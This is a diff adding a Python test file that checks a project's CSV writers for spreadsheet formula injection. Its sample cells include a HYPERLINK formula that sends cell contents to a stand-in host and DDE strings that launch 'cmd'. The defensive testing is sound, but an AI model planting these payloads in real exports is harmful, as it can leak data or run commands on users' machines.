@@ -1,0 +1,145 @@
+"""No CSV has a cell that a spreadsheet runs, and all cells are read as they were meant."""
+
+import csv
+import re
+from pathlib import Path
+
+import numpy as np
+import polars as pl
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import ophis
+from ophis import CountryPrior, Manifest, SpeciesList, read_manifest
+from ophis.evaluation.report.figures import Figure
+from ophis.evaluation.report.figures import write as write_figures
+from ophis.files.csv import as_meant, as_text, write_csv
+from ophis.files.tables import as_text as table_as_text
+from ophis.files.tables import read_rows
+from ophis.priors.country_counts import read_counts
+from ophis.priors.overrides import Rule, read_rules, write_rules
+from ophis.priors.range_maps import PresenceMap, read_presence
+from ophis.taxonomy.species_list import species_key
+from ophis.train.usable_photos import SKIPPED, read_skipped
+
+EVIL = (
+    "=1+1",
+    '=HYPERLINK("http://a.example/"&A1)',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "\uff1d1+1",
+    "'=1",
+    "''@x",
+)  # fmt: skip
+WIDE = "\uff1d\uff0b\uff0d\uff20"
+STARTS = tuple("=+-@\t\r" + WIDE)
+NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
+CELL = st.text(st.sampled_from([*"=+-@'\t\r 1.e", "a", '"', ",", "\n", *WIDE]), max_size=6)
+
+
+def run_by_a_spreadsheet(path: Path) -> list[str]:
+    """Cells of a file that begin a formula, read by the standard library and by nothing of ours."""
+    with path.open(encoding="utf-8", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    return [cell for cell in cells if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)]
+
+
+@given(CELL)
+def test_a_cell_is_read_as_it_was_meant_and_never_run(cell):
+    written = as_text(cell)
+    assert as_meant(written) == cell
+    assert not written.startswith(STARTS) or NUMBER.fullmatch(written)
+
+
+@given(st.lists(CELL, min_size=1, max_size=5))
+def test_tables_and_single_cells_are_written_alike(cells):
+    table = pl.DataFrame({"a": cells, "=b": list(range(len(cells)))}, schema_overrides={"a": str})
+    written = table_as_text(table)
+    assert written["a"].to_list() == list(map(as_text, cells))
+    assert written.columns == ["a", "'=b"]
+
+
+def written_species(folder: Path) -> tuple[object, object]:
+    species = SpeciesList(EVIL)
+    return species, SpeciesList.read(species.write(folder / "x.csv"))
+
+
+def written_counts(folder: Path) -> tuple[object, object]:
+    species = SpeciesList(EVIL)
+    counts = np.full((1, len(EVIL)), 2)
+    prior = CountryPrior(species=species, countries=("kenya",), counts=counts)
+    back = read_counts(prior.write(folder / "x.csv"), species)
+    return (prior.species, prior.counts.tolist()), (back.species, back.counts.tolist())
+
+
+def written_rules(folder: Path) -> tuple[object, object]:
+    rules = tuple(Rule("kenya", name, 0.0, "x") for name in EVIL)
+    back = read_rules(write_rules(rules, folder / "x.csv"))
+    return [rule.species for rule in rules], [rule.species for rule in back]
+
+
+def written_presence(folder: Path) -> tuple[object, object]:
+    names = [species_key(name) for name in EVIL]
+    there = PresenceMap(dict.fromkeys(names, frozenset({"KE"})), frozenset({"KE"}))
+    return there.places, read_presence(there.write(folder / "x.csv")).places
+
+
+def written_manifest(folder: Path) -> tuple[object, object]:
+    photos = [f"{name.replace('/', '')}.jpg" for name in EVIL]
+    text = {"photo_id": EVIL, "photo": photos, "species": EVIL, "country": "kenya"}
+    more = {"observation": EVIL, "note": EVIL, "latitude": ["-1.5"] * len(EVIL), "@more": "x"}
+    manifest = Manifest(pl.DataFrame(text | more, strict=False), folder)
+    back = read_manifest(manifest.write(folder / "x.csv"))
+    assert ",-1.5," in (folder / "x.csv").read_text()  # a number is no formula
+    return manifest.table.to_dict(as_series=False), back.table.to_dict(as_series=False)
+
+
+def written_skipped(folder: Path) -> tuple[object, object]:
+    reasons = {name: f"{name}: this is no photo" for name in EVIL}
+    rows = [("train", *one) for one in reasons.items()]
+    write_csv(folder / SKIPPED, [("part", "photo_id", "reason"), *rows])
+    (folder / "x.csv").write_bytes((folder / SKIPPED).read_bytes())
+    return {"train": reasons}, read_skipped(folder)
+
+
+def written_figures(folder: Path) -> tuple[object, object]:
+    numbers = pl.DataFrame({"species": EVIL, "difference": [-0.5] * len(EVIL)})
+    write_figures([Figure(name="x", title="", caption="", svg="<svg/>", numbers=numbers)], folder)
+    return list(EVIL), read_rows(folder / "x.csv")["species"].to_list()
+
+
+WRITERS = {
+    name.removeprefix("written_"): write
+    for name, write in globals().items()
+    if name.startswith("written_")
+}
+
+
+@pytest.mark.parametrize("name", WRITERS)
+def test_no_file_has_a_cell_that_is_run_and_all_read_back(name, tmp_path, figure):
+    meant, read = WRITERS[name](tmp_path)
+    assert meant == read
+    assert run_by_a_spreadsheet(tmp_path / "x.csv") == []
+    figure(name)
+
+
+# Files whose form a challenge prescribes to the byte, and text that no file is made of.
+OTHERS = {
+    "csv_lines.py": "the one writer",
+    "submission.py": "the challenges compare ids and names as they stand",
+    "pack.py": "a digest",
+    "manifest.py": "a digest, and as text",
+    "report/figures.py": "as text",
+}
+
+
+def test_nothing_else_writes_csv():
+    source = Path(ophis.__file__).parent
+    found = {
+        path.relative_to(source).as_posix()
+        for path in source.rglob("*.py")
+        if re.search(r"csv\.writer|DictWriter|\.write_csv\(", path.read_text(encoding="utf-8"))
+    }
+    assert found == set(OTHERS)
